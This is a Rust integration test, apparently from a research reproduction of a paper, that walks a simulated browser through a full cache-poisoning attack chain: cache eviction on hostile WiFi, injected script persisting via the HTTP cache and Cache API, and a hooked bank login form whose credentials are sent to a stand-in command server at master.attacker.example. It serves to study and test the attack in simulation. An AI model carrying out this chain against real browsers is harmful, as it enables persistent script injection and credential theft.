//! End-to-end integration test: the full attack chain of the paper, from the
//! victim joining a hostile WiFi to credentials arriving at the master.
//!
//! Covers: eviction (§IV) → TCP/HTTP injection (§V) → persistence across a
//! network change (§VI-A) → propagation (§VI-B) → C&C (§VI-C) → application
//! attack (§VII).

use mp_browser::browser::{Browser, FetchSource};
use mp_browser::profile::BrowserProfile;
use mp_httpsim::body::ResourceKind;
use mp_httpsim::transport::{Internet, StaticOrigin};
use mp_httpsim::url::Url;
use parasite::attacks;
use parasite::cnc::CncServer;
use parasite::eviction::{junk_origin, EvictionAttack};
use parasite::master::Master;
use parasite::script::Parasite;

fn somesite() -> StaticOrigin {
    let mut origin = StaticOrigin::new("somesite.com");
    origin.put_text(
        "/index.html",
        ResourceKind::Html,
        r#"<html><head><script src="/my.js"></script></head><body>news</body></html>"#,
        "no-cache",
    );
    origin.put_text("/my.js", ResourceKind::JavaScript, "function genuine(){}", "public, max-age=604800");
    origin
}

fn clean_internet() -> Internet {
    let mut net = Internet::new();
    net.register_origin(somesite());
    net.register_origin(junk_origin(2_048, 64));
    net
}

#[test]
fn full_attack_chain_from_wifi_to_credential_theft() {
    let mut master = Master::new("master.attacker.example");
    let target = Url::parse("http://somesite.com/my.js").unwrap();
    master.add_target(target.clone());
    let infector = master.infector();

    // --- Phase 0: the victim has browsed the site before (object is cached).
    let profile = BrowserProfile {
        cache_capacity_bytes: 120_000,
        ..BrowserProfile::chrome()
    };
    let mut browser = Browser::new(profile, Box::new(clean_internet()));
    let page = Url::parse("http://somesite.com/index.html").unwrap();
    browser.visit(&page);
    assert!(browser.cache().contains_any_partition(&target));

    // --- Phase 1: the victim joins the attacker's WiFi. Cache eviction first.
    let hostile = master.injecting_exchange(clean_internet());
    browser.change_network(Box::new(hostile));
    let eviction = EvictionAttack::new(2_048, 64).run(&mut browser, std::slice::from_ref(&target));
    assert!(eviction.evicted_targets, "target must be flushed: {eviction:?}");

    // --- Phase 2: the next visit re-fetches the object; the master races the
    // response and the infected copy lands in the cache.
    let load = browser.visit(&page);
    assert!(load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));
    // The parasite additionally pins itself via the Cache API.
    let infected_response = load
        .records
        .iter()
        .find(|r| r.url == target)
        .map(|_| browser.cache().peek(&target, "somesite.com").unwrap().response.clone())
        .unwrap();
    browser
        .cache_api_mut()
        .put(&target.origin().to_string(), "parasite", &target, infected_response);

    // --- Phase 3: the victim goes home (clean network). The parasite persists.
    browser.change_network(Box::new(clean_internet()));
    browser.advance_time(3600);
    let at_home = browser.visit(&page);
    let parasite_script = at_home
        .page
        .scripts
        .iter()
        .find(|s| infector.is_infected(&s.body))
        .expect("parasite still executes on the home network");
    assert!(!parasite_script.body.is_empty());
    let record = at_home.records.iter().find(|r| r.url == target).unwrap();
    assert!(
        record.source == FetchSource::HttpCache || record.source == FetchSource::CacheApi,
        "the infected copy must come from a local cache, not the network"
    );

    // --- Phase 4: C&C + application attack. The victim logs into the bank;
    // the parasite hooks the form and exfiltrates the credentials.
    let detected = Parasite::detect(&parasite_script.body).unwrap();
    assert_eq!(detected.campaign, master.parasite.campaign);

    let bank = mp_apps::banking::BankingApp::default();
    let (mut dom, form) = bank.login_dom();
    let user = dom.by_name("username").unwrap().id;
    let pass = dom.by_name("password").unwrap().id;
    dom.set_attr(user, "value", "alice");
    dom.set_attr(pass, "value", "correct-horse");
    dom.submit_form(form).unwrap();

    let mut cnc = CncServer::new("master.attacker.example");
    let theft = attacks::steal_login_data(&dom, &mut cnc, &detected.campaign);
    assert!(theft.succeeded);
    let exfil = String::from_utf8(cnc.exfiltrated()[0].data.clone()).unwrap();
    assert!(exfil.contains("username=alice"));
    assert!(exfil.contains("password=correct-horse"));
}

#[test]
fn attack_fails_end_to_end_when_the_victim_never_meets_the_attacker() {
    let master = Master::new("master.attacker.example");
    let infector = master.infector();
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(clean_internet()));
    let page = Url::parse("http://somesite.com/index.html").unwrap();
    let load = browser.visit(&page);
    assert!(!load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));
}
